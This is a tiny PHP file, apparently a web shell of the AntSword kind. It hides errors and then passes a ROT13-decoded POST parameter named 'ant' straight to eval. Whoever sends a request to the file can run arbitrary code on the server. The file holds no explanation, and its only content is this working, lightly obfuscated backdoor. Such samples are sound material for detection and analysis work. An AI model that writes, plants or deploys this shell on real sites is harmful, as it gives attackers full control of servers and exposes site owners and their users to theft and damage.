<?php
@ini_set("display_errors","0");
@eval(str_rot13($_POST['ant']));
